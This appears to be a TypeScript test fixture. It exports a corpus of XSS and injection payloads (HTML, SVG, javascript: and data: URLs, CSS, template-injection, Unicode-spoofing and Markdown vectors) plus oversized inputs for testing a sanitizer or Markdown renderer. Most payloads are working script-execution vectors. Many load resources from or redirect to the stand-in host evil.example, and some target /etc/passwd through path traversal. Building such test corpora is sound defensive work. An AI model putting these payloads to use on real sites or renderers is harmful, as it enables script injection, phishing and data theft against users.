// What hostile authors write, after OWASP's cheat sheets, PortSwigger's list and the history of Markdown renderers. Every
// payload that runs sets `xss`, opens a dialog, or asks evil.example for something: all three are watched for.

const RUN = 'top.xss=1';

/** HTML and attributes. */
const HTML = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=//evil.example/i.png>`,
  `<img srcset="//evil.example/s.png 1x">`,
  `<image href=//evil.example/h>`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video src=//evil.example/v onerror=${RUN}>`,
  `<audio src=//evil.example/a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<object data=//evil.example/o></object>`,
  `<embed src=//evil.example/e>`,
  `<link rel=stylesheet href=//evil.example/c.css>`,
  `<link rel=prefetch href=//evil.example/p>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/m">`,
  `<form action=//evil.example/f><button>Sign</button></form>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<xss style="animation:x" onanimationstart=${RUN}>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
];

const SVG_AND_MATH = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="//evil.example/u.svg#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `%6Aavascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AueHNzPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `https:evil.example`,
  `https://sui.io@evil.example/`,
  `..%2f..%2f..%2fetc%2fpasswd`,
  `%3Cscript%3E${RUN}%3C%2Fscript%3E`,
];

const CSS_AND_TEMPLATES = [
  `x;position:fixed;inset:0;z-index:9999;background:url(//evil.example/b)`,
  `<style>*{background:url(//evil.example/s)}</style>`,
  `<div style="position:fixed;inset:0;z-index:2147483647">Sign in</div>`,
  `expression(${RUN})`,
  `@import '//evil.example/i.css';`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{@html "<img src=x onerror=${RUN}>"}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `__proto__`,
  `constructor`,
  `');${RUN};('`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
];

const TEXT = [
  `null\0byte<img src=x onerror=${RUN}>`,
  `\u202egnp.exe\u202c`,
  `\u2066\u202e\u2067isolates`,
  `a\u200b\u200c\u200d\ufeffb`,
  `Ѕcаlе`,
  `ﬁne ｆｕｌｌ 𝐛𝐨𝐥𝐝`,
  `Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035b\u035c\u035d\u035e\u035f\u0360lgo`,
  `مرحبا שלום`,
  `\u2028line\u2029separators`,
  `tab\tand\r\nlines`,
  `\ufdfd\ufdfd\ufdfd\ufdfd`,
  `👩‍👩‍👧‍👦🏳️‍🌈`,
  `A`.repeat(60),
];

const MARKDOWN = [
  `[click](javascript:${RUN})`,
  `[click](<javascript:${RUN}>)`,
  `[click]( jaVascript:${RUN} )`,
  `[click](data:text/html,<script>${RUN}</script>)`,
  `[click](https://evil.example "onmouseover=${RUN}")`,
  `[sui.io](https://evil.example/login)`,
  `![x](https://evil.example/pixel.png)`,
  `![x](//evil.example/pixel.png)`,
  `![x](x"onerror="${RUN})`,
  `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
  `[![x](https://evil.example/badge.svg)](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `<https://evil.example/auto>`,
  `[ref]\n\n[ref]: javascript:${RUN}`,
  `![ref]\n\n[ref]: https://evil.example/ref.png`,
  `# <img src=x onerror=${RUN}>`,
  `\`<img src=x onerror=${RUN}>\``,
  '```html\n<script>top.xss=1</script>\n```',
  `| <img src=x onerror=${RUN}> | b |\n|-|-|\n| <svg onload=${RUN}> | [x](javascript:${RUN}) |`,
  `- [x] <input onfocus=${RUN} autofocus>`,
  `> > > <iframe src=//evil.example>`,
  `<details><summary>x</summary>\n\n<script>${RUN}</script>\n\n</details>`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\<script>${RUN}\\</script>`,
  `[^1]\n\n[^1]: <script>${RUN}</script>`,
  `https://evil.example/autolink`,
  `www.evil.example`,
  `a@evil.example`,
];

export const CORPUS: readonly string[] = [
  ...HTML,
  ...SVG_AND_MATH,
  ...ADDRESSES,
  ...CSS_AND_TEMPLATES,
  ...TEXT,
  ...MARKDOWN,
];

/** The whole corpus as one card, each payload a block of its own. */
export const CARD = CORPUS.join('\n\n');

/** Cards that are not wrong, only too much: for the parser, for the tree, for the page. 100,000 characters, the limit. */
export const HEAVY_CARDS: Readonly<Record<string, string>> = {
  slow: '_a'.repeat(50_000),
  deep: '> '.repeat(50_000),
  long: '# a\n'.repeat(25_000),
};
